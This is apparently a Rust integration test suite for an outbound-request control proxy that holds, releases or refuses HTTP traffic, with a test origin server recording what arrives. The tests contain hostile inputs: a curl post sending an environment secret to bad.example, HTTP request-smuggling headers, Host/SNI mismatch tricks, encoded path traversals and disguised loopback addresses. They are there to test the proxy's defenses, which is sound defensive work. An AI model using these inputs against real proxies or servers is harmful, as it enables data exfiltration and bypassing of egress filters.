//! Requests from real clients over real sockets: released, held, refused; the origin server is
//! the witness.
#![allow(
    clippy::unwrap_used,
    clippy::panic,
    clippy::indexing_slicing,
    reason = "a helper that fails fails its test"
)]

mod common;

use common::{ENV_SECRET, Origin, World, policy, until};
use kernel::Verdict;

#[test]
fn a_named_party_is_reached_over_every_way_in() {
    let origin = Origin::clear();
    let world = World::new(policy(), &origin);
    for (n, arguments) in [
        &["http://good.example/a"][..],
        &["https://good.example/a"],
        &["--http1.1", "https://good.example/a"],
        &["--http2", "https://good.example/a"],
        &["--http2-prior-knowledge", "http://good.example/a"],
        &["-d", "x=1", "https://good.example/a"],
    ]
    .iter()
    .enumerate()
    {
        let direct = world.curl(arguments);
        assert_eq!(direct.status, 200, "{arguments:?}: {direct:?}");
        if arguments[0] != "--http2-prior-knowledge" {
            let proxied = world.proxied(arguments);
            assert_eq!(proxied.status, 200, "{arguments:?}: {proxied:?}");
        }
        assert!(origin.seen().len() > n, "{arguments:?}");
    }
    assert!(
        origin
            .seen()
            .iter()
            .all(|s| s.host == "good.example" && s.uri == "/a"),
        "{:?}",
        origin.seen()
    );
    assert!(world.session.held().is_empty());
}

#[test]
fn a_post_to_an_unknown_party_gets_a_stub_and_is_sent_once_when_released() {
    let origin = Origin::clear();
    let world = World::new(policy(), &origin);
    let body = format!("data={ENV_SECRET}");
    for _ in 0..50 {
        let got = world.curl(&["-d", &body, "https://bad.example/collect"]);
        assert_eq!(got.status, 202, "{got:?}");
        assert!(got.body.contains("not sent yet"), "{got:?}");
    }
    assert!(origin.seen().is_empty());
    let held = world.session.held();
    assert_eq!(held.len(), 1, "fifty identical requests are one decision");
    assert!(held[0].carries.is_some(), "the secret is noticed");
    assert_eq!(
        held[0].effect.object.to_string(),
        "https://bad.example/collect"
    );
    assert!(world.blobs() > 0);
    world.decide(Verdict::Release);
    let seen = origin.seen();
    assert_eq!(seen.len(), 1, "{seen:?}");
    assert_eq!(seen[0].body, body.as_bytes());
    assert_eq!(
        seen[0].headers["content-type"],
        "application/x-www-form-urlencoded"
    );
    assert!(world.log().contains("200 OK, "), "{}", world.log());
}

#[test]
fn a_refused_post_never_leaves_and_its_bytes_go() {
    let origin = Origin::clear();
    let world = World::new(policy(), &origin);
    let json = world.curl(&[
        "-H",
        "content-type: application/json",
        "-d",
        "{}",
        "https://bad.example/x",
    ]);
    assert_eq!(json.status, 202);
    let stub: serde_json::Value = serde_json::from_str(&json.body).unwrap();
    assert!(
        stub["message"]
            .as_str()
            .unwrap()
            .contains(stub["id"].as_str().unwrap()),
        "{stub}"
    );
    let blob = world.session.held()[0].effect.payload.digest;
    assert!(world.session.blobs().open(&blob).is_ok());
    world.decide(Verdict::Refuse);
    assert!(world.session.blobs().open(&blob).is_err());
    assert!(origin.seen().is_empty());
}

#[test]
fn a_get_waits_for_its_verdict() {
    let origin = Origin::clear();
    let world = World::new(policy(), &origin);
    std::thread::scope(|scope| {
        let client = scope.spawn(|| world.curl(&["https://bad.example/page"]));
        world.decide(Verdict::Release);
        let got = client.join().unwrap();
        assert_eq!((got.status, got.body.as_str()), (200, "you said 0 bytes"));
        let client = scope.spawn(|| world.curl(&["https://bad.example/page"]));
        world.decide(Verdict::Refuse);
        let got = client.join().unwrap();
        assert_eq!(got.status, 403, "{got:?}");
        assert!(got.body.contains("did not happen"), "{got:?}");
    });
    assert_eq!(origin.seen().len(), 1);
}

#[test]
fn a_changed_byte_voids_the_approval() {
    let origin = Origin::clear();
    let world = World::new(policy(), &origin);
    world.curl(&["-d", "amount=1", "https://bad.example/pay"]);
    let held = world.session.held().remove(0);
    let path = world.session.blobs().path(&held.effect.payload.digest);
    let bytes = std::fs::read_to_string(&path)
        .unwrap()
        .replace("amount=1", "amount=9");
    std::fs::write(&path, bytes).unwrap();
    world.decide(Verdict::Release);
    assert!(origin.seen().is_empty());
    assert!(
        world.log().contains("was changed after it was approved"),
        "{}",
        world.log()
    );
}

#[test]
fn who_hangs_up_takes_the_request_back() {
    let origin = Origin::clear();
    let world = World::new(policy(), &origin);
    let got = world.curl(&["--max-time", "1", "https://bad.example/page"]);
    assert_eq!(got.status, 0);
    assert!(until(|| world.session.held().is_empty()));
    assert!(origin.seen().is_empty());
}

#[test]
fn the_verdict_is_that_of_the_canonical_path() {
    let origin = Origin::clear();
    let world = World::new(policy(), &origin);
    for path in [
        "/allowed/x",
        "//allowed//x",
        "/allowed/./x",
        "/denied/../allowed/x",
        "/%61llowed/x",
    ] {
        let got = world.curl(&["--path-as-is", &format!("https://paths.example{path}")]);
        assert_eq!(got.status, 200, "{path} {got:?}");
    }
    assert!(
        origin.seen().iter().all(|s| s.uri == "/allowed/x"),
        "{:?}",
        origin.seen()
    );
    let before = origin.seen().len();
    for path in [
        "/allowed/../denied",
        "/allowed/%2e%2e/denied",
        "//denied",
        "/allowed;/../denied",
        "/allowed/..;/denied",
        "/allowed/..%2fdenied",
        "/ALLOWED/x",
    ] {
        let got = world.curl(&[
            "--path-as-is",
            "-X",
            "POST",
            &format!("https://paths.example{path}"),
        ]);
        assert!(matches!(got.status, 202 | 421), "{path} {got:?}");
    }
    assert_eq!(origin.seen().len(), before);
}

#[test]
fn names_that_disagree_reach_nobody() {
    let origin = Origin::clear();
    let mut both = policy();
    both.parties.push(common::party("other", "bad.example"));
    // Both are allowed, so that only the disagreement can stop them.
    let world = World::new(both, &origin);
    for arguments in [
        &["-H", "Host: bad.example", "https://good.example/"][..],
        &["-H", "Host: good.example", "https://bad.example/"],
        &["-H", "Host: bad.example", "http://good.example/"],
        &[
            "--http2",
            "-H",
            "Host: bad.example",
            "https://good.example/",
        ],
    ] {
        for got in [world.curl(arguments), world.proxied(arguments)] {
            assert!(
                matches!(got.status, 421 | 403 | 400),
                "{arguments:?} {got:?}"
            );
            assert!(got.body.contains("Nothing was sent"), "{got:?}");
        }
    }
    // SNI of one on the address of the other.
    let to = world.direct("good.example", 443);
    let got = world.curl(&[
        "--connect-to",
        "x",
        "--resolve",
        &format!("bad.example:{}:127.0.0.1", to.port()),
        &format!("https://bad.example:{}/", to.port()),
    ]);
    assert!(matches!(got.status, 421), "{got:?}");
    // Absolute form with another host, to the proxy and directly.
    for (to, line) in [
        (
            world.proxy,
            "GET http://good.example/ HTTP/1.1\r\nHost: bad.example\r\n\r\n",
        ),
        (
            world.direct("good.example", 80),
            "GET http://bad.example/ HTTP/1.1\r\nHost: bad.example\r\n\r\n",
        ),
        (
            world.direct("good.example", 80),
            "GET http://bad.example/ HTTP/1.1\r\nHost: good.example\r\n\r\n",
        ),
        (
            world.direct("good.example", 80),
            "GET / HTTP/1.1\r\nHost: good.example\r\nHost: bad.example\r\n\r\n",
        ),
        (world.direct("good.example", 80), "GET / HTTP/1.1\r\n\r\n"),
    ] {
        let got = world.raw(to, line.as_bytes());
        assert!(got.starts_with("HTTP/1.1 4"), "{line} {got}");
    }
    assert!(origin.seen().is_empty(), "{:?}", origin.seen());
    assert!(
        world.log().contains(r#""decision":"refuse""#),
        "{}",
        world.log()
    );
}

#[test]
fn an_address_is_judged_as_an_address() {
    let origin = Origin::clear();
    let world = World::new(policy(), &origin);
    let got = world.curl(&["-k", "-X", "POST", "https://192.0.2.7/x"]);
    assert_eq!(got.status, 202, "{got:?}");
    assert_eq!(
        world.session.held()[0].effect.object.to_string(),
        "https://192.0.2.7/x"
    );
    for spelled in ["0x7f.1", "2130706433", "127.1", "[::ffff:127.0.0.1]"] {
        let got = world.raw(world.proxy, format!("POST http://{spelled}:9/{} HTTP/1.1\r\nContent-Length: 0\r\nHost: {spelled}:9\r\n\r\n", spelled.len()).as_bytes());
        assert!(got.contains("202"), "{spelled} {got}");
    }
    let held = world.session.held();
    assert!(
        held[1..].iter().all(|h| h
            .effect
            .object
            .to_string()
            .starts_with("http://127.0.0.1:9/")),
        "{held:?}"
    );
    assert!(origin.seen().is_empty());
}

#[test]
fn ambiguous_framing_is_refused() {
    let origin = Origin::clear();
    let world = World::new(policy(), &origin);
    let to = world.direct("good.example", 80);
    for head in [
        "Content-Length: 3\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: good.example\r\n\r\n",
        "Transfer-Encoding: chunked\r\nContent-Length: 3\r\n\r\n0\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: good.example\r\n\r\n",
        "Content-Length: 3\r\nContent-Length: 4\r\n\r\nabcd",
        "Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n",
        "Transfer-Encoding: chunked\r\n\r\nzz\r\nabc\r\n0\r\n\r\n",
        "Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n",
        "X-Folded: a\r\n b\r\nContent-Length: 0\r\n\r\n",
        "Content-Length: +3\r\n\r\nabc",
    ] {
        let got = world.raw(
            to,
            format!("POST /x HTTP/1.1\r\nHost: good.example\r\n{head}").as_bytes(),
        );
        assert!(
            got.is_empty() || got.starts_with("HTTP/1.1 4"),
            "{head:?} {got}"
        );
    }
    assert!(origin.seen().is_empty(), "{:?}", origin.seen());
}

#[test]
fn coded_bodies_are_looked_into() {
    let origin = Origin::clear();
    let world = World::new(policy(), &origin);
    let dir = world.dir.path();
    std::fs::write(dir.join("plain"), format!("a b c {ENV_SECRET} d e f")).unwrap();
    std::process::Command::new("gzip")
        .arg("-k")
        .arg(dir.join("plain"))
        .status()
        .unwrap();
    let data = format!("@{}", dir.join("plain.gz").display());
    let got = world.curl(&[
        "-H",
        "content-encoding: gzip",
        "--data-binary",
        &data,
        "https://good.example/x",
    ]);
    assert_eq!(
        got.status, 202,
        "a named party is not cleared for the secret: {got:?}"
    );
    assert!(origin.seen().is_empty());
    let got = world.curl(&[
        "-H",
        "content-encoding: gzip",
        "--data-binary",
        "no gzip",
        "https://good.example/x",
    ]);
    assert_eq!(got.status, 400, "{got:?}");
}

#[test]
fn what_is_held_can_be_sent_after_its_session_has_ended() {
    let origin = Origin::clear();
    let world = World::new(policy(), &origin);
    let path = world.dir.path().join("large");
    std::fs::write(&path, vec![b'z'; 1 << 20]).unwrap();
    let data = format!("@{}", path.display());
    let got = world.curl(&[
        "-H",
        "x-kept: yes",
        "--data-binary",
        &data,
        "https://bad.example/a?b=c",
    ]);
    assert_eq!(got.status, 202, "{got:?}");
    world.curl(&["-X", "DELETE", "https://bad.example/gone"]);
    world.net.shutdown();
    let rule = net::UpstreamRule {
        hosts: kernel::policy::HostPattern("*".into()),
        ports: Vec::new(),
        base: origin.http_base(),
    };
    let sender = net::OfflineSender::new(
        std::sync::Arc::clone(&world.session),
        &[rule],
        &[],
        &[],
        Vec::new(),
    )
    .unwrap();
    world
        .session
        .attach(kernel::Channel::Net, std::sync::Arc::new(sender));
    world.decide(Verdict::Release);
    let seen = origin.seen();
    assert_eq!(seen.len(), 2, "{seen:?}");
    assert_eq!(
        (seen[0].method.as_str(), seen[0].uri.as_str()),
        ("POST", "/a?b=c")
    );
    assert_eq!(seen[0].body.len(), 1 << 20);
    assert_eq!(seen[0].headers["x-kept"], "yes");
    assert_eq!(
        (seen[1].method.as_str(), seen[1].uri.as_str()),
        ("DELETE", "/gone")
    );
    assert!(world.session.held().is_empty());
}

#[test]
fn a_program_that_distrusts_us_is_noted() {
    let origin = Origin::clear();
    let world = World::new(policy(), &origin);
    let to = world.direct("good.example", 443);
    let output = std::process::Command::new("curl")
        .env_clear()
        .args([
            "-sS",
            "--connect-to",
            &format!("good.example:443:{}:{}", to.ip(), to.port()),
            "https://good.example/",
        ])
        .output()
        .unwrap();
    assert!(!output.status.success());
    assert!(
        until(|| world.log().contains("TLS handshake broken off")),
        "{}",
        world.log()
    );
}

#[test]
fn socks_is_judged_by_the_final_target() {
    let origin = Origin::clear();
    let world = World::new(policy(), &origin);
    let proxy = |scheme: &str| format!("{scheme}://{}", world.proxy);
    for scheme in ["socks5", "socks5h"] {
        // With `socks5` curl resolves by itself; the address stands for the name.
        let resolve = "good.example:443:198.18.0.1";
        let got = world.proxied(&[
            "-x",
            &proxy(scheme),
            "--resolve",
            resolve,
            "https://good.example/",
        ]);
        assert_eq!(got.status, 200, "{scheme} {got:?}");
        let resolve = "bad.example:443:198.18.0.2";
        let got = world.proxied(&[
            "-x",
            &proxy(scheme),
            "--resolve",
            resolve,
            "-d",
            "x",
            "https://bad.example/",
        ]);
        assert_eq!(got.status, 202, "{scheme} {got:?}");
        let got = world.proxied(&[
            "-x",
            &proxy(scheme),
            "--resolve",
            "good.example:443:198.18.0.2",
            "https://good.example/",
        ]);
        let agreed = scheme == "socks5h";
        assert_eq!(
            got.status,
            if agreed { 200 } else { 421 },
            "{scheme} {got:?}"
        );
    }
    assert!(origin.seen().iter().all(|s| s.host == "good.example"));
}

#[test]
fn an_upgrade_to_http_2_in_the_clear_is_no_way_round() {
    let origin = Origin::clear();
    let world = World::new(policy(), &origin);
    let got = world.curl(&["--http2", "http://good.example/"]);
    assert_eq!(got.status, 200, "{got:?}");
    assert!(!origin.seen()[0].headers.contains_key("http2-settings"));
    let before = origin.seen().len();
    for arguments in [
        &["--http2", "-X", "POST", "http://paths.example/denied"][..],
        &[
            "--http2-prior-knowledge",
            "-X",
            "POST",
            "http://paths.example/denied",
        ],
    ] {
        assert_eq!(world.curl(arguments).status, 202);
    }
    assert_eq!(origin.seen().len(), before);
}

#[test]
fn tunnels_within_tunnels_lead_to_their_final_target() {
    let origin = Origin::clear();
    let world = World::new(policy(), &origin);
    let inner = "CONNECT proxy.example:3128 HTTP/1.1\r\nHost: proxy.example:3128\r\n\r\n";
    let get = "GET http://good.example/deep HTTP/1.1\r\nHost: good.example\r\n\r\n";
    let got = world.raw(world.proxy, format!("{inner}{inner}{get}").as_bytes());
    assert_eq!(got.matches("200 OK").count(), 3, "{got}");
    assert_eq!(origin.seen()[0].uri, "/deep");
    let got = world.raw(
        world.proxy,
        format!("{inner}{inner}{inner}{inner}{get}").as_bytes(),
    );
    assert!(got.contains("too many tunnels"), "{got}");
}

/// Over HTTP/1 they were approved and then left out: the length was known, so no chunks were sent.
#[test]
fn trailers_of_a_request_arrive_whether_it_was_held_or_not() {
    let origin = Origin::clear();
    let world = World::new(policy(), &origin);
    for host in ["good.example", "bad.example"] {
        let request = format!(
            "POST /t HTTP/1.1\r\nHost: {host}\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n3\r\nabc\r\n0\r\nX-Sum: 7\r\n\r\n"
        );
        world.raw(world.direct(host, 80), request.as_bytes());
    }
    world.decide(Verdict::Release);
    let seen = origin.seen();
    assert_eq!(seen.len(), 2);
    for one in seen {
        assert_eq!(one.body, b"abc");
        assert_eq!(one.trailers["x-sum"], "7", "{one:?}");
    }
}

/// They were one hold, of which the first alone was sent, and a plain request was answered with the hold of one that had a
/// secret in its trailer.
#[test]
fn requests_that_differ_in_their_trailers_are_different_requests() {
    let origin = Origin::clear();
    let world = World::new(policy(), &origin);
    let send = |host: &str, trailer: &str| {
        let request = format!(
            "POST /t HTTP/1.1\r\nHost: {host}\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n1\r\na\r\n0\r\n{trailer}\r\n"
        );
        world.raw(world.direct(host, 80), request.as_bytes())
    };
    for trailer in ["X-Sum: 1", "X-Sum: 2", "X-Sum: \u{fc}", "X-Sum: 1"] {
        let got = send("bad.example", &format!("{trailer}\r\n"));
        assert!(got.starts_with("HTTP/1.1 202"), "{got}");
    }
    let held = world.session.held();
    let told: Vec<&str> = held.iter().map(|one| one.effect.about.as_str()).collect();
    assert_eq!(
        told,
        [
            "1 bytes, then trailers: x-sum: 1",
            "1 bytes, then trailers: x-sum: 2",
            "1 bytes, then trailers: x-sum: \u{fc}"
        ]
    );
    let secret = send("good.example", &format!("X-Sum: {ENV_SECRET}\r\n"));
    assert!(secret.starts_with("HTTP/1.1 202"), "{secret}");
    let plain = send("good.example", "");
    assert!(plain.starts_with("HTTP/1.1 200"), "{plain}");
    assert!(origin.seen().iter().all(|one| one.trailers.is_empty()));
    // What is refused takes no bytes from those that are alike but for the trailer.
    let all = world.session.held();
    assert_eq!(all.len(), 4);
    for (one, verdict) in all.iter().zip([
        Verdict::Refuse,
        Verdict::Release,
        Verdict::Release,
        Verdict::Refuse,
    ]) {
        world
            .session
            .verdict(one.hold, one.manifest, verdict, "test", "because")
            .unwrap();
    }
    let sent: Vec<String> = origin
        .seen()
        .iter()
        .filter_map(|one| one.trailers.get("x-sum").cloned())
        .collect();
    assert_eq!(sent, ["2", "\u{fc}"], "{}", world.log());
}

#[test]
fn what_cannot_be_read_is_in_the_log() {
    let origin = Origin::clear();
    let world = World::new(policy(), &origin);
    for head in ["GET /a b HTTP/1.1", "GET /a HTTP/1.1\r\nX : 1", "GET /0.9"] {
        let request = format!("{head}\r\nHost: good.example\r\n\r\n");
        let got = world.raw(world.direct("good.example", 80), request.as_bytes());
        assert!(got.starts_with("HTTP/1.1 400"), "{got}");
    }
    assert!(origin.seen().is_empty());
    assert!(
        until(|| world.log().matches("cannot be read as HTTP").count() >= 3),
        "{}",
        world.log()
    );
}
